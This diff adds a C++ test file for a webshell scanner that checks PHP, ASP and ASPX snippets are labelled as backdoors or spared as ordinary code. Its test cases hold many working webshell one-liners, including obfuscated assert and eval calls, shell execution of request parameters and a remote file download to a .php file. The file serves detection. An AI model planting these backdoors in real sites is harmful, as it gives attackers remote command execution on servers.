@@ -1,0 +1,155 @@
+#include "engines/webshell_scan.h"
+
+#include <gtest/gtest.h>
+
+#include "engines/decoders.h"
+#include "engines/inflate.h"
+#include "engines/page_script.h"
+#include "engines/php_flow.h"
+#include "engines/php_tokens.h"
+#include "engines/script_encoding.h"
+#include "tests/engines/text_generator.h"
+
+namespace qiv {
+namespace {
+
+const CQivLibs& Libs() {
+  static const CQivLibs libs(Language::kEnglish);
+  return libs;
+}
+
+std::string Finding(std::string_view text) {
+  WebshellResult result;
+  std::string name;
+  WithExactCopy(text, [&](std::string_view copy) {
+    if (Libs().WebshellScan(copy, &result)) name = result.name;
+  });
+  return name;
+}
+
+struct Case {
+  std::string_view text;
+  std::string_view name;
+};
+
+TEST(WebshellScan, NamesWhatPhpDoes) {
+  const Case cases[] = {
+      {"<?php eval($_POST[1]);", "Backdoor"},
+      {"<?=`$_GET[1]`;", "Backdoor"},
+      {"<?php $f = 'ass'.'ert'; $f($_POST['x']);", "String concatenation"},
+      {"<?php $f=\"\\x61\\x73sert\"; $f($_POST['x']);", "Character encoding"},
+      {"<?php $f=chr(97).chr(115).chr(115).'ert'; $f($_POST['x']);", "Character codes"},
+      {"<?php $f=strrev('tressa'); $f($_POST['x']);", "Reversed string"},
+      {"<?php $f=str_replace('x','','axssxert'); $f($_POST['x']);", "Character replacement encoding"},
+      {"<?php $f=urldecode('%61ssert'); $f($_POST['x']);", "URL encoding"},
+      {"<?php $f=base64_decode('YXNzZXJ0'); $f($_POST['x']);", "Base64 encoding"},
+      {"<?php $f=str_rot13('nffreg'); $f($_POST['x']);", "Hidden dangerous features"},
+      {"<?php $f=('!'^'@').'ssert'; $f($_POST['x']);", "Character encoding"},
+      {"<?php $_GET['a']($_GET['b']);", "Variant backdoor"},
+      {"<?php function run($c) { return system($c); } $x = $_REQUEST; run($x['c']);", "Backdoor"},
+      {"<?php foreach ($_POST as $k => $v) $$k = $v; eval($code);", "Backdoor"},
+      {"<?php eval('function f() { eval($_POST[1]); }'); f();", "Backdoor"},
+      {"<?php $d = trim($_POST['d']); preg_replace('/x/e', $d, 'x');", "Backdoor"},
+      {"<?php array_map(function($c) { system($c); }, (array)$_GET['c']);", "Backdoor"},
+      {"<?php $f = fopen($_POST['f'], 'w'); fwrite($f, $_POST['c']);", "Suspicious backdoor"},
+      {"<?php copy('http://x.test/a.txt', 'a.php');", "Copy unknown file download"},
+      {"<?php include $_GET['page'];", "Suspicious reference"},
+      {"<?php phpinfo();", "May cause information leakage"},
+  };
+  for (const Case& c : cases) EXPECT_EQ(Finding(c.text), c.name) << c.text;
+}
+
+TEST(WebshellScan, SparesOrdinaryCode) {
+  const std::string_view cases[] = {
+      "<?php $id = (int)$_GET['id']; $db->exec('delete from t where id=' . $id);",
+      "<?php namespace A; class B { function exec($q) { return $this->pdo->exec($q); } }",
+      "<?php include __DIR__ . '/pages/' . basename($_GET['p']) . '.php';",
+      "<?php // eval($_POST[1]);\n# system($_GET['c'])\n/* `$_GET[1]` */ echo 'eval($_POST[1])';",
+      "<?php usort($list, function ($a, $b) { return $a <=> $b; });",
+      "<?php call_user_func([$this, $_GET['action']]);",
+      "<?php echo htmlspecialchars($_POST['x']); $y = md5($_POST['p']); eval('$z = 1;');",
+      "<%@ Page Language=\"C#\" %><asp:Label runat=\"server\" Text='<%# Eval(\"Name\") %>' />",
+      "<% conn.execute(\"select * from t where id=\" & clng(request(\"id\"))) %>",
+      "eval($_POST[1]); // no marker, no signature",
+      "",
+  };
+  for (const std::string_view text : cases) EXPECT_EQ(Finding(text), "") << text;
+}
+
+TEST(WebshellScan, NamesWhatPagesDo) {
+  const Case cases[] = {
+      {"<%execute(session(\"a\"))\nsession(\"a\")=request(\"b\")\n%>", "ASP backdoor"},
+      {"<%\nset w=createobject(\"wscript.shell\")\nc=request(\"c\")\nw.run c\n%>", "ASP backdoor"},
+      {"<%ev\"&\"al(request(\"x\"))%>", "ASP variant backdoor"},
+      {"<%\nExecute StrReverse(\")x(tseuqer lave\")\n%>", "ASP variant backdoor"},
+      {"<%\nset f=createobject(\"scr\"&\"ipting.filesystemobject\")\n%>", "ASP variant backdoor"},
+      {"<%@ codepage = 65000 %>+ADw-", "UTF-7 encoded script"},
+      {"<%@ Page Language=\"C#\" %><% Process.Start(Request[\"c\"]); %>", "ASPX variant backdoor"},
+      {"<%@ Page Language=\"C#\" %><script runat=server>void R(string c) { P.Start(\"cmd\", c); } void L() { "
+       "R(Request.Form[\"c\"]); }</script>",
+       "ASPX variant backdoor"},
+  };
+  for (const Case& c : cases) EXPECT_EQ(Finding(c.text), c.name) << c.text;
+}
+
+TEST(WebshellScan, KeepsItsLimits) {
+  std::string text = "<?php eval($_POST[1]);";
+  text.resize(CQivLibs::kLongestText, ' ');
+  EXPECT_EQ(Finding(text), "Backdoor");
+  EXPECT_EQ(Finding(text + " "), "");
+  std::string rule = "eval x gzuncompress y base64_decode";
+  rule.resize(10240, '.');
+  EXPECT_EQ(Finding(rule), "Hidden backdoor");  // before the sequence rules
+  EXPECT_EQ(Finding("eval ( gzuncompress"), "Hidden backdoor");
+  EXPECT_EQ(Finding("gzuncompress base64_decode namespace"), "");
+  EXPECT_EQ(Finding("adodb.stream responseBody http:/"), "Suspected dangerous files");
+  EXPECT_EQ(Finding("adodb.stream responseBody http:/ <!--#include"), "");
+  EXPECT_EQ(Finding("<% standard jet db @codepage=65000" + std::string(105472, ' ')), "");
+  EXPECT_EQ(Finding("<%x<!--#include file=\"a\"--> \nx=request(\"a\")\nexecute x\n" + std::string(102400, ' ')), "");
+}
+
+TEST(WebshellScan, KnownGoodCodeClearsTheText) {
+  const CQivLibs libs(Language::kChinese, "<trojan_rules>my!mark{*}0{*}Mine{*}0{*}0{*}4{*}0{#}</trojan_rules>",
+                      "own mark{#}", "Known  Good{#}");
+  WebshellResult result;
+  std::string good = "<?php eval($_POST[1]); // known good";
+  EXPECT_FALSE(libs.WebshellScan(&good, &result));
+  EXPECT_TRUE(result.known_good);
+  EXPECT_TRUE(good.empty());
+  EXPECT_TRUE(libs.WebshellScan(std::string_view("OWN mark"), &result));
+  EXPECT_TRUE(libs.WebshellScan(std::string_view("my.mark"), &result));
+  EXPECT_EQ(result.name, "Mine");
+}
+
+TEST(WebshellScan, NeverReadsBehindItsText) {
+  const Tokens tokens = {
+      "<?php ", "$a", "=",      "$_POST[1]",     "(", ")", "{",  "}",  "[",  "]",  "eval",    "function f", "\"$a[",
+      "${",     "'",  "<<<X\n", "base64_decode", ";", ".", "\\", "?>", "<%", "%>", "request", "foreach",    " as ",
+      "=>",     "->", "`"};
+  ForRandomSequences(tokens, 30, 4000, [](std::string_view text) {
+    WebshellResult result;
+    Libs().WebshellScan(text, &result);
+    FollowPhp(text, true);
+    FollowPage(text, PageKind::kAspx);
+    DecodeEncodedScript(text);
+  });
+}
+
+TEST(Inflate, DecodesStoredFixedAndDynamicAndBoundsTheRest) {
+  EXPECT_EQ(Inflate(DecodeHex("4b4c4a4e494d4b442201"), DeflateWrap::kRaw, 100), "abcdefabcdefabcdef");
+  EXPECT_EQ(Inflate(std::string_view("\x01\x03\x00\xfc\xff"
+                                     "abc",
+                                     8),
+                    DeflateWrap::kRaw, 2),
+            "ab");
+  EXPECT_EQ(Inflate(DecodeHex("0dcbc90900310800c056f2f0a1550541414156f0e87ff31ea63d9015ad0fe27a3badf237a5860b7b3d721c8f"
+                              "41016d408bda2779ac921139185c0b2067568cfa35ce3950e62312be7b69930cbac0a84441741fdd08fb01"),
+                    DeflateWrap::kRaw, 1000),
+            "sil(ae(hs ((uisi)ueantreh(u$u_iloti( h$r$)ul$sdehndo hroa((ala$ier$$ottudh)streaot "
+            "$rhitddliuu_)uo)h$sr$h)rde$deuitd_llh");
+  ForRandomSequences({"\x05", "\xff", "\xe4", "K", std::string(1, '\0'), "\x4b\x4c", "\xed\xc1"}, 40, 4000,
+                     [](std::string_view data) { EXPECT_LE(Inflate(data, DeflateWrap::kRaw, 500).size(), 500U); });
+}
+
+}  // namespace
+}  // namespace qiv
